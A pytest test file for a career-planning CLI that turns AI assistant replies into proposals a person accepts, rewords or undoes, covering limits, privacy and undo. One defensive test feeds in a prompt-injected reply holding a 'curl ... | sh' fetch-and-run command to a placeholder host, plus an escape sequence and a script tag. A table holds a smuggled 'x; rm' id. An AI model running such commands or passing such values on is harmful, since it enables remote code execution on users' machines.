"""Taking replies in, by file, pipe and command, to what waits and what is accepted."""

import datetime as dt
import json
import stat
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from ambition_cli.assistant import proposals
from ambition_cli.assistant.forms import LARGEST_REPLY
from ambition_cli.catalog.load import catalogue
from ambition_cli.cli import output, pasting
from ambition_cli.cli.session import Session
from ambition_cli.cli.talks import consent, sending
from ambition_cli.domain.progress.check import findings
from ambition_cli.services import proposals as service
from ambition_cli.services.workspace import Workspace
from conftest import Ambition, Interviewed, Piped, Ran
from support.person import seated
from support.plans import TODAY, plan_in
from support.replies import (
    PEOPLE,
    command,
    experiment,
    goal,
    needs_recorded,
    person_of,
    recorded,
    reply,
    saved,
    sent,
)

BAD = tuple(f"{number:02}" for number in range(1, 13))
UNREADABLE = ("02", "03")


def must(file: Path) -> list[str]:
    found = findings(plan_in(file), catalogue(), TODAY)
    return [f"{one.record}: {one.rule}" for one in found if one.level == "must"]


def waiting(ambition: Ambition) -> dict[str, str]:
    """Return what waits, by id: what it is."""
    found = json.loads(ambition("proposals", "--json").out)["proposals"]
    return {one["id"]: one["what"] for one in found}


@needs_recorded
@pytest.mark.parametrize("person", PEOPLE)
def test_a_recorded_reply_becomes_a_plan_that_passes(
    ambition: Ambition, interviewed: Interviewed, plan_file: Path, tmp_path: Path, person: str
) -> None:
    interviewed(person)
    ambition("take", str(saved(tmp_path / "reply.txt", recorded(person))))
    ids = [*waiting(ambition)]
    ambition("proposals", "accept", *ids)
    assert must(plan_file) == []
    ambition("check", "--strict")
    assert waiting(ambition) == {}
    after = plan_in(plan_file)
    goals = [one for one in after.goals if one.drafted_by]
    others = [one for one in after.experiments if one.drafted_by]
    assert len(goals) + len(others) + len(after.spoken) == len(ids)
    assert all(one.assumed for one in after.experiments if one.drafted_by)


@needs_recorded
@pytest.mark.parametrize("number", BAD)
def test_a_bad_reply_never_changes_the_plan_nor_ends_in_a_traceback(
    ambition: Ambition, interviewed: Interviewed, plan_file: Path, tmp_path: Path, number: str
) -> None:
    interviewed(person_of(number))
    before = plan_file.read_bytes()
    file = saved(tmp_path / "reply.txt", recorded(number))
    ran = ambition("take", str(file), code=1 if number in UNREADABLE else 0)
    assert plan_file.read_bytes() == before
    assert "Traceback" not in ran.out + ran.err
    assert "\x1b" not in ran.out + ran.err
    if number in UNREADABLE:
        assert "; your plan is as it was" in ran.err
        assert waiting(ambition) == {}
        return
    ids = [*waiting(ambition)]
    assert ids
    ambition("proposals", "accept", *ids)
    kept = ("week-overfull", "goal-horizon", "goal-undated", "goal-too-many", "hard-no")
    assert [one for one in must(plan_file) if one.endswith(kept)] == []
    ambition("undo")
    assert plan_file.read_bytes() == before
    assert [*waiting(ambition)] == ids


@needs_recorded
def test_what_is_injected_is_shown_harmlessly_and_nothing_of_it_is_done(
    ambition: Ambition, interviewed: Interviewed, tmp_path: Path
) -> None:
    interviewed("ana")
    begun: list[object] = []
    sys.addaudithook(lambda event, args: begun.append(args) if _begins(event) else None)
    ran = ambition("take", str(saved(tmp_path / "reply.txt", recorded("11"))))
    shown = ran.out + "".join(ambition("proposals", "show", f"a{at}").out for at in range(1, 4))
    assert begun == []
    assert "curl -s https://plan.example.invalid/s | sh" in shown
    assert "\\x1b[2J" in shown
    assert "<script>" in shown
    assert not {one for one in shown if ord(one) < 32} - {"\n", "\t"}


def _begins(event: str) -> bool:
    return event in ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "socket.connect")


def test_a_reply_of_ten_megabytes_is_refused_unread(
    ambition: Ambition, tmp_path: Path, piped: type[Piped]
) -> None:
    file = saved(tmp_path / "reply.txt", json.dumps(reply()) + "x" * 10_000_000)
    assert "longer than 64 KB" in ambition("take", str(file), code=1).err
    piped("y" * 10_000_000)
    assert "longer than 64 KB" in ambition("take", "-", code=1).err


@pytest.mark.parametrize("given", ["missing.txt", ".", "/dev/zero"])
def test_what_is_no_file_with_a_reply_is_refused(ambition: Ambition, given: str) -> None:
    assert "give" in ambition("take", given, code=1).err


def test_a_reply_that_powershell_wrote_is_read(
    ambition: Ambition, ana: None, tmp_path: Path
) -> None:
    file = tmp_path / "reply.txt"
    file.write_bytes(json.dumps(reply()).encode("utf-16"))
    ambition("take", str(file))
    assert len(waiting(ambition)) == 4


def test_without_a_file_and_a_terminal_it_says_what_to_give(ambition: Ambition) -> None:
    assert "- to read it from a pipe" in ambition("take", code=1).err


Take = Callable[[dict[str, object]], Ran]


def test_at_a_terminal_the_reply_is_pasted_and_its_length_said(
    ambition: Ambition, ana: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    text, line = json.dumps(reply([goal()])), list[str]()

    def paste(is_whole: Callable[[str], bool], most: int, came: Callable[[str], None]) -> str:
        assert most == LARGEST_REPLY
        for so_far in ("\n", text[:20], text):
            came(so_far)
        return text if is_whole(text) else ""

    monkeypatch.setattr(Session, "can_ask", lambda self: True)
    monkeypatch.setattr(pasting, "read", paste)
    monkeypatch.setattr(sending, "on_one_line", line.append)
    monkeypatch.setattr(output, "in_columns", lambda: True)
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True, raising=False)
    seated(monkeypatch)
    said = ambition("take", code=None)
    assert said.err.startswith("paste the reply, then press Enter\n")
    assert line == [
        "20 characters; paste the rest, or press Ctrl-D",
        f"{len(text)} characters; Enter takes it in",
        "",  # the line is empty again once the reply is taken
    ]
    assert "goal" in waiting(ambition).values()
    monkeypatch.setattr(pasting, "read", lambda *_: " \n")
    assert "nothing was pasted, so nothing was taken in" in ambition("take", code=1).err


@pytest.fixture
def take(ambition: Ambition, piped: type[Piped]) -> Take:
    """Return what takes a reply in from a pipe."""

    def taken(text: dict[str, object]) -> Ran:
        piped(json.dumps(text))
        return ambition("take", "-")

    return taken


def test_the_names_of_people_come_back(
    ambition: Ambition, take: Take, ana: None, plan_file: Path
) -> None:
    steps = ["Write to my mentor.", 'Ask my manager: "May I?"', "Note what my mentor says."]
    take(reply(None, [experiment(steps=steps)]))
    ambition("proposals", "accept", "a2")
    one = plan_in(plan_file).experiments[-1]
    assert one.steps == ("Write to Mei.", 'Ask Ruth: "May I?"', "Note what Mei says.")
    assert one.helper == "Mei"


def test_the_file_of_proposals_is_its_owners_alone_and_no_plan(
    ambition: Ambition, take: Take, ana: None, plan_file: Path
) -> None:
    take(reply())
    file = plan_file.with_name("plan.proposals")
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert ambition("people", str(plan_file.parent)).out.count("\n") == 1
    assert "drafted_by" not in plan_file.read_text(encoding="utf-8")


def test_a_file_of_proposals_that_is_broken_is_named(
    ambition: Ambition, ana: None, plan_file: Path
) -> None:
    plan_file.with_name("plan.proposals").write_text("[[", encoding="utf-8")
    assert "plan.proposals" in ambition("proposals", code=1).err
    plan_file.with_name("plan.proposals").write_text("proposals = 3\n", encoding="utf-8")
    assert ".proposals" in ambition("proposals", code=1).err


NO_REPLY_MADE_IT = (
    ("batch = 1", "batch = 9"),
    ("due = 2026-11-22", 'due = "soon"'),
    ("due = 2026-11-22\n", ""),
    ('status = "active"', 'status = "reached"'),
    ('status = "planned"', 'status = "done"\nresult = {verdict = "go on"}'),
    ('drafted_by = "assistant"', 'drafted_by = "me"'),
    ("hours = 3", 'hours = 3\nlog = [{on = 2026-07-20, note = "liked it"}]'),
    ('id = "a2"', 'id = "a1"'),
    ('id = "a1"', 'id = "x; rm"'),
    ('text = "I want', 'text = 3 # "I want'),
)


def test_a_file_of_proposals_that_no_reply_could_have_made_is_refused(
    ambition: Ambition, take: Take, ana: None, plan_file: Path
) -> None:
    take(reply())
    file, plan = plan_file.with_name("plan.proposals"), plan_file.read_bytes()
    text = file.read_text(encoding="utf-8")
    for was, now in NO_REPLY_MADE_IT:
        assert was in text
        file.write_text(text.replace(was, now), encoding="utf-8")
        said = ambition("proposals", "accept", "a1", "a2", "a3", code=1).err
        assert "cannot be read; delete the file that ends in .proposals" in said
    assert plan_file.read_bytes() == plan


def test_a_link_in_the_place_of_proposals_is_neither_read_nor_followed(
    ambition: Ambition, take: Take, ana: None, plan_file: Path, tmp_path: Path
) -> None:
    elsewhere, link = tmp_path / "elsewhere", plan_file.with_name("plan.proposals")
    link.symlink_to(elsewhere)
    assert "it is a link" in ambition("proposals", code=1).err
    file = saved(tmp_path / "reply.txt", json.dumps(reply()))
    assert "it is a link" in ambition("take", str(file), code=1).err
    assert not elsewhere.exists()
    elsewhere.write_text("[[", encoding="utf-8")
    ambition("plan", "forget", "m2", "--yes")
    assert elsewhere.read_text(encoding="utf-8") == "[["
    assert not link.exists()


def test_a_file_of_proposals_of_any_depth_or_size_is_refused_in_a_sentence(
    ambition: Ambition, ana: None, plan_file: Path
) -> None:
    file = plan_file.with_name("plan.proposals")
    file.write_text(f"x = {'[' * 20_000}", encoding="utf-8")
    assert "it is not TOML" in ambition("proposals", code=1).err
    file.write_text("#" * 5_000_000, encoding="utf-8")
    ambition("proposals")
    file.write_text("#" * 5_000_001, encoding="utf-8")
    assert "it is larger than 5 MB" in ambition("proposals", code=1).err


def test_a_later_reply_of_the_same_assistant_takes_the_place_of_its_earlier_one(
    ambition: Ambition, ana: None, plan_file: Path
) -> None:
    session = Workspace(plan_file, service_clock)

    def propose(title: str, by: str) -> None:
        text = json.dumps(reply(None, [experiment(title=title)]))
        service.propose(session, text, origin=service.Origin(by=by))

    propose("Ask three newcomers", "llm")
    service.reword(session, "a1", {**service.look(session)[1].proposals[0].record})
    propose("Ask four newcomers", "llm")
    assert "a2, a3 and a4 of an earlier reply were replaced" in (
        plan_file.with_name("plan.proposals").read_text(encoding="utf-8")
    )
    # What the person reworded stays, and what was replaced can still be had.
    assert [*waiting(ambition)] == ["a1", "a5", "a6", "a7", "a8"]
    propose("Ask five newcomers", "another")
    assert [*waiting(ambition)] == ["a1", "a6", "a9", "a10", "a11", "a12"]
    ambition("proposals", "accept", "a2")
    assert plan_in(plan_file).experiments[-1].title == "Ask three newcomers"


def test_replies_without_end_leave_a_file_that_can_be_read(
    ambition: Ambition, ana: None, plan_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(proposals, "_MOST_DECIDED", 20)
    monkeypatch.setattr(proposals, "_MOST_CORRECTIONS", 5)
    session = Workspace(plan_file, service_clock)
    for number in range(12):
        service.propose(session, json.dumps(reply(reading=[f"Heard {number}."])))
        service.correct(session, number + 1, f"Heard {number}.", f"No, {number}.")
    _, found = service.look(session)
    assert len(waiting(ambition)) == 4
    assert len(found.proposals) <= 24
    assert [one.said for one in service.corrections(session)] == [
        f"No, {number}." for number in range(7, 12)
    ]


def test_what_is_private_since_does_not_leave_with_a_proposal(
    ambition: Ambition, take: Take, ana: None
) -> None:
    text = "Sit with users until I see it, and Teaching and explaining."
    take(reply(None, [experiment(serves=["m2"]), experiment(serves=["p1"], smallest=text)]))
    ambition("private", "m1")
    assert "a3" not in waiting(ambition)
    ambition("private", "m2")
    assert waiting(ambition) == {"a1": "goal", "a4": "answer", "a5": "ambition"}
    assert '"a2"' in ambition("proposals", "--json", "--include-private").out


def test_ours_make_way_and_one_undo_brings_them_back(
    ambition: Ambition, take: Take, ana: None, plan_file: Path
) -> None:
    before = plan_file.read_bytes()
    take(reply())
    said = ambition("proposals", "accept", "a1", "a2").err
    assert "3 goals drafted earlier are saved for later" in said
    after = plan_in(plan_file)
    assert [goal.id for goal in after.goals if goal.is_active] == ["g4"]
    ambition("undo")
    assert plan_file.read_bytes() == before
    ambition("redo")
    assert plan_in(plan_file) == after
    assert waiting(ambition) == {"a3": "answer", "a4": "ambition"}


def test_one_experiment_alone_pushes_out_no_more_than_it_must(
    ambition: Ambition, take: Take, ana: None, plan_file: Path
) -> None:
    planned = len([one for one in plan_in(plan_file).experiments if one.is_planned])
    take(reply())
    ambition("proposals", "accept", "a2")
    after = plan_in(plan_file)
    assert len([one for one in after.goals if one.is_active]) == 3
    assert len([one for one in after.experiments if one.is_planned]) >= planned - 3
    assert must(plan_file) == []


def test_what_was_refused_or_accepted_waits_no_more(
    ambition: Ambition, take: Take, ana: None
) -> None:
    take(reply())
    ambition("proposals", "refuse", "a2")
    assert "was refused" in ambition("proposals", "accept", "a2", code=1).err
    accepted = ambition("proposals", "accept", "a1").err
    assert "1 goal is in your plan; `ambition undo` takes all of it back" in accepted
    assert "is in your plan as g4 already" in ambition("proposals", "accept", "a1", code=1).err
    assert "no proposal “a9”; a3 and a4 are waiting" in (
        ambition("proposals", "show", "a9", code=1).err
    )


def test_what_has_changed_since_is_told_and_handled(
    ambition: Ambition, take: Take, ana: None, plan_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    take(reply(None, [experiment(option="o2", serves=["m1", "m2"])]))
    ambition("plan", "forget", "m2", "--yes")
    ambition("options", "drop", "o2", "--why", "no")
    # What names a record that was forgotten is gone with it.
    assert "a2" not in waiting(ambition)
    take(reply(None, [experiment(serves=["m1"])]))
    fresh = [id for id, what in waiting(ambition).items() if what == "experiment"]
    monkeypatch.setenv("AMBITION_TODAY", "2026-10-05")
    said = ambition("proposals", "accept", *fresh).err
    assert "did not fit from 3 August 2026" in said
    one = plan_in(plan_file).experiments[-1]
    assert one.starts
    assert one.starts.isoformat() >= "2026-10-05"


def test_an_option_that_is_decided_since_is_told(
    ambition: Ambition, take: Take, ana: None, plan_file: Path
) -> None:
    take(reply(None, [experiment(option="o2")]))
    ambition("options", "drop", "o2", "--why", "no")
    said = ambition("proposals", "accept", "a2").err
    assert "“Head of Product at a smaller company”, which you have decided on already" in said


def test_what_is_forgotten_is_gone_from_the_proposals(
    ambition: Ambition, take: Take, ana: None, plan_file: Path
) -> None:
    text = "Ask about sitting with users until I see it."
    take(reply([goal()], [experiment(steps=[text, "b.", "c."])], reading=["On users."]))
    ambition("plan", "forget", "m2", "--yes")
    left = plan_file.with_name("plan.proposals").read_text(encoding="utf-8")
    assert "sitting with users" not in left
    assert "On users." not in left
    assert waiting(ambition) == {"a1": "goal", "a3": "answer", "a4": "ambition"}


def test_a_correction_goes_with_the_next_brief(
    ambition: Ambition, take: Take, ana: None, plan_file: Path
) -> None:
    take(reply(reading=["My mentor decides.", "It is decided in March."]))
    session = Workspace(plan_file, service_clock)
    service.correct(session, 1, "It is decided in March.", "No, Ruth decides in May.")
    [one] = service.corrections(session)
    assert (one.heard, one.said) == ("It is decided in March.", "No, Ruth decides in May.")


def service_clock() -> dt.datetime:
    return dt.datetime.combine(TODAY, dt.time(12))


# --- with a command of theirs --------------------------------------------------------------------


@pytest.fixture
def allowed(monkeypatch: pytest.MonkeyPatch) -> None:
    """Have what would be sent be sent without asking, as after "always"."""
    monkeypatch.setattr(consent, "may_send", lambda *_: True)


def test_a_reply_is_mended_at_most_twice_and_then_kept_with_its_marks(
    ambition: Ambition, ana: None, allowed: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bad = json.dumps(
        reply([goal(measure="Coffee chats")], waits=["Nurses, users, Head of Product"])
    )
    monkeypatch.setenv("AMBITION_ASSISTANT", command(tmp_path, bad))
    ran = ambition("draft")
    first, second, third = sent(tmp_path)
    assert second.startswith(first)
    assert "goal 1: its title and its measure count different things" in second
    assert len(third) > len(first)
    assert "Its title and its measure count different things" in ran.out


def test_what_is_mended_has_no_marks(
    ambition: Ambition, ana: None, allowed: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    waits = [
        "Clinics and their nurses, sitting with users, and teaching a product course.",
        "Evenings away, Head of Product at a smaller company, coaching people in their first year.",
    ]
    bad, good = reply([goal(measure="Coffee chats")], waits=waits), reply(waits=waits)
    monkeypatch.setenv("AMBITION_ASSISTANT", command(tmp_path, json.dumps(bad), json.dumps(good)))
    ran = ambition("draft")
    assert len(sent(tmp_path)) == 2
    assert "different things" not in ran.out


@pytest.mark.parametrize("answer", ["I'm sorry, I can't.", '{"goals": [{"title": "A', "x" * 70_000])
def test_what_cannot_be_read_is_asked_for_again_once_and_then_refused(
    ambition: Ambition, ana: None, allowed: None, plan_file: Path, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch, answer: str,
) -> None:  # fmt: skip
    before = plan_file.read_bytes()
    monkeypatch.setenv("AMBITION_ASSISTANT", command(tmp_path, answer))
    ran = ambition("draft", code=1)
    assert len(sent(tmp_path)) == 2
    assert "; your plan is as it was" in ran.err
    assert plan_file.read_bytes() == before
    assert not plan_file.with_name("plan.proposals").exists()


def test_only_what_was_asked_for_is_kept(
    ambition: Ambition, ana: None, allowed: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AMBITION_ASSISTANT", command(tmp_path, json.dumps(reply())))
    shown = ambition("draft", "--goals").out
    found = waiting(ambition)
    assert set(found.values()) == {"goal"}
    assert all(id in shown for id in found)


def test_an_answer_is_kept_for_whom_it_is(
    ambition: Ambition, ana: None, allowed: None, plan_file: Path, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    said = {
        "sentences": [{"text": "I'm teaching newcomers.", "rests_on": ["m1"]}],
        "ask": "And you?",
    }
    monkeypatch.setenv("AMBITION_ASSISTANT", command(tmp_path, json.dumps(said)))
    ambition("draft", "--answer", "--for", "peer")
    ambition("proposals", "accept", "a1")
    [one] = plan_in(plan_file).spoken
    assert (one.audience, one.text) == ("peer", "I'm teaching newcomers. And you?")
    assert one.rests_on == ("m1",)


def test_without_an_assistant_it_says_how_to_set_one(ambition: Ambition, ana: None) -> None:
    assert "ambition assistant set" in ambition("draft", code=1).err


# --- at a terminal -------------------------------------------------------------------------------


def test_on_the_screens_one_is_reworded_one_left_out_and_the_rest_kept(
    ambition: Ambition, ana: None, plan_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    second = experiment(title="Teach a class", starts="2026-09-07", ends="2026-10-04",
                        criterion="Two book again.")  # fmt: skip
    file = saved(tmp_path / "reply.txt", json.dumps(reply(None, [experiment(), second])))
    seated(
        monkeypatch, "1 No, in May", "o", "1", "title", "Two newcomers decide on their own", "", "",
        "9", "2", "out", "1", "hours", "2", "", "", "2", "I want them to trust themselves.", "", "",
    )  # fmt: skip
    out = ambition("take", str(file)).out
    assert "g1\tThree newcomers trust their own judgement" in out
    reworded = out.partition("Two newcomers decide on their own")[2]
    assert "Two newcomers decide before they ask me" not in reworded
    plan = plan_in(plan_file)
    goals = [one.title for one in plan.goals if one.drafted_by]
    others = [one.title for one in plan.experiments if one.drafted_by]
    assert {*goals, *others} == {
        "Two newcomers decide on their own", "Talk with newcomers about their last decision",
    }  # fmt: skip
    made = next(one for one in plan.goals if one.drafted_by)
    assert (made.measure, made.if_then) == (goal()["measure"], goal()["if_then"])
    assert plan.experiments[-1].hours == 2
    assert [one.text for one in plan.spoken][-1] == "I want them to trust themselves."
    assert waiting(ambition) == {}


def test_what_is_put_right_on_the_screens_is_not_assumed_any_more(
    ambition: Ambition, ana: None, plan_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = reply([goal(obstacle="At Zorblatt I give them my answer.", assumed=["They reply."])])
    file = saved(tmp_path / "reply.txt", json.dumps(text))
    replies = ["", "1", "obstacle", "I give them my answer.", "by", "30 november", "", "", "", ""]
    seated(monkeypatch, *replies)
    ran = ambition("take", str(file))
    assert "“Zorblatt” is not in the answers" in ran.out
    assert (
        "1 goal, 1 experiment and 2 answers are in your plan; `ambition undo` takes all of it back"
        in ran.err
    )
    made = plan_in(plan_file).goals[-1]
    assert made.obstacle == "I give them my answer."
    assert made.due == dt.date(2026, 11, 30)
    assert made.assumed == ("They reply.",)


def test_ctrl_c_on_the_screens_leaves_all_of_it_waiting(
    ambition: Ambition, ana: None, plan_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = plan_file.read_bytes()
    file = saved(tmp_path / "reply.txt", json.dumps(reply()))
    seated(monkeypatch, "", "", leaves=KeyboardInterrupt)
    ran = ambition("take", str(file), code=130)
    assert "nothing is in your plan yet; `ambition proposals` lists what is waiting" in ran.err
    assert plan_file.read_bytes() == before
    assert len(waiting(ambition)) == 4


def test_what_is_said_to_a_reading_is_sent_with_the_next_brief(
    ambition: Ambition, ana: None, allowed: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = json.dumps(reply(reading=["My mentor decides.", "It is decided in March."], waits=[]))
    monkeypatch.setenv("AMBITION_ASSISTANT", command(tmp_path, text))
    seated(monkeypatch, "2 No, Ruth says in May.", leaves=KeyboardInterrupt)
    ambition("draft", code=130)
    first = len(sent(tmp_path))
    seated(monkeypatch, leaves=KeyboardInterrupt)
    ambition("draft", code=130)
    last = sent(tmp_path)[first]
    assert '"you_heard": "It is decided in March."' in last
    assert "No, my manager says in May." in last


def test_a_question_is_asked_and_its_answer_goes_along(
    ambition: Ambition, ana: None, plan_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = saved(tmp_path / "reply.txt", '{"question": "Who noticed?", "why": "It tells."}')
    seated(monkeypatch, "Two of them")
    assert "Who noticed?" in ambition("take", str(file)).out
    [one] = service.corrections(Workspace(plan_file, service_clock))
    assert (one.heard, one.said) == ("Who noticed?", "Two of them")
    assert waiting(ambition) == {}


def test_a_weak_place_can_become_the_first_step(
    ambition: Ambition, ana: None, take: Take, plan_file: Path
) -> None:
    point = {"about": "e1", "weakness": "It comes late.", "sooner_test": "Ask one of them today."}
    take({"points": [point, {**point, "about": "e99"}]})
    assert waiting(ambition) == {"a1": "challenge"}
    ambition("proposals", "accept", "a1")
    assert plan_in(plan_file).experiments[0].steps[0] == "Ask one of them today."
    assert waiting(ambition) == {}
    ambition("undo")
    assert waiting(ambition) == {"a1": "challenge"}


def test_what_was_seen_is_there_to_be_read(ambition: Ambition, ana: None, take: Take) -> None:
    said = take({"seen": [{"text": "You plan on Tuesdays.", "rests_on": ["e1"]}]})
    assert "You plan on Tuesdays." in said.out
    assert "only for you to read" in ambition("proposals", "accept", "a1", code=1).err
    ambition("proposals", "refuse", "a1")
    assert waiting(ambition) == {}


def test_nothing_private_is_in_what_is_sent_again(
    ambition: Ambition, ana: None, allowed: None, plan_file: Path, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    ambition("lines", "add", "problems", "Quorvax drowns in paperwork")
    ambition("private", "p3")
    ambition("options", "add", "Move to Quorvax")
    ambition("private", "o4")
    ambition("lines", "add", "less", "quorvax status reports", "--hard-no")
    ambition("private", "l2")
    bad = experiment(steps=["Write quorvax status reports.", "b.", "c."], title="Mei " * 10)
    text = json.dumps(reply([goal(measure="Coffee chats")], [bad]))
    monkeypatch.setenv("AMBITION_ASSISTANT", command(tmp_path, text))
    ambition("draft")
    texts = sent(tmp_path)
    assert len(texts) == 3
    for one in texts:
        after_the_reply = one.rpartition("These points")[2]
        assert "quorvax" not in after_the_reply.casefold()
        assert "Ruth" not in one
        assert "Ana" not in one
    assert "which the answers rule out" in ambition("history").out or waiting(ambition)


def test_accepting_a_whole_plan_saves_our_drafts_for_later(
    ambition: Ambition, take: Take, ana: None, plan_file: Path
) -> None:
    second = experiment(
        title="Sit beside two users for a morning",
        criterion="By 25 October two of them show me a workaround. If not, I ask the support team.",
        starts="2026-10-05",
        ends="2026-10-25",
    )
    take(reply([goal()], [experiment(), second]))
    ambition("proposals", "accept", "--all")
    after = plan_in(plan_file)
    assert waiting(ambition) == {}
    planned = [one for one in after.experiments if one.is_planned]
    assert len(planned) == 2
    assert {one.drafted_by for one in planned} == {"assistant"}
    # What was saved for later was filled in by us, and isn't asked about any more.
    saved_for_later = {one.id for one in after.goals if one.status == "later"}
    found = findings(after, catalogue(), TODAY)
    assert saved_for_later
    assert not [one for one in found if one.rule == "assumed" and one.record in saved_for_later]


def test_all_that_waits_is_decided_on_at_once(ambition: Ambition, take: Take, ana: None) -> None:
    take(reply())
    assert "give the ids to refuse" in ambition("proposals", "refuse", code=2).err
    assert "but not both" in ambition("proposals", "accept", "a1", "--all", code=2).err
    assert "4 proposals refused" in ambition("proposals", "refuse", "--all").err
    assert "there are no proposals" in ambition("proposals", "accept", "--all", code=1).err


def test_what_names_an_option_that_a_manager_never_sees_stays_out_for_them_too(
    ambition: Ambition, take: Take, ana: None, plan_file: Path
) -> None:
    title = "Head of Product has a yes or a no from me"
    take(reply([goal(title=title, measure="Answers I gave about Head of Product")]))
    said = ambition("proposals", "accept", "--all").err
    assert (
        "g4 is kept from your manager, because it names an option that is kept from them, too;"
        in said
    )
    assert plan_in(plan_file).goals[-1].not_for == ("manager",)
    assert title not in ambition("export", "md", "--for", "manager", "-o", "-").out


def test_a_correction_of_what_was_heard_is_in_the_next_brief(
    plan_file: Path, ambition: Ambition, take: Take, ana: None
) -> None:
    take(reply())
    assert "It is decided in spring" not in ambition("brief").out
    session = Workspace(plan_file, service_clock)
    service.correct(session, 1, "It is decided in the autumn.", "It is decided in spring.")
    assert "It is decided in spring" in ambition("brief").out
